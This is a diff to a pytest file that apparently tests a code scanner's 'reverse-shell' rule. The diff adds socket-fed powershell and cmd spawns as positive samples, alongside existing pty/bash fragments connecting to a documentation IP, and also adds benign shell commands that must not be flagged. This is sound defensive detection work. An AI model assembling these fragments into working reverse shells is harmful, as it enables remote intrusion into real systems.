@@ -48,12 +48,24 @@ def test_what_honest_scripts_do(name: str) -> None:
         'pty.spawn("/bin/bash")',
         'subprocess.Popen("cmd.exe", stdin=subprocess.PIPE, stdout=subprocess.PIPE)',
         'os.execve("/bin/bash", ["bash", "--norc"], os.environ)',
+        'subprocess.Popen(["powershell", "-NoP", "-NonI", "-NoExit"], stdin=s)',
+        'subprocess.Popen(["cmd", "/q", "/K"], stdin=s)',
     ],
 )
 def test_a_shell_for_whoever_is_connected_to(shell: str) -> None:
     imports = "import os, pty, socket, subprocess"
     connected = "s = socket.socket()\ns.connect(('192.0.2.1', 9))"
     assert "reverse-shell" in rules_of(f"{imports}\n{connected}\n{shell}\n", "x.py")
+
+
+@pytest.mark.parametrize(
+    "words",
+    [["bash", "-lc", "make"], ["sh", "-c", "ls"], ["bash", "train.sh"], ["/bin/sh", "/opt/run.sh"],
+     ["powershell", "-NoP", "-File", "build.ps1"], ["cmd", "/c", "dir"], ["zsh", "-ic", "env"]],
+)  # fmt: skip
+def test_a_shell_that_is_told_what_to_do_reads_nothing_else(words: list[str]) -> None:
+    connected = "import socket, subprocess\nsocket.create_connection(('192.0.2.1', 9))"
+    assert "reverse-shell" not in rules_of(f"{connected}\nsubprocess.run({words})\n", "x.py")
 
 
 def test_what_two_scripts_of_one_archive_do_is_not_joined() -> None:
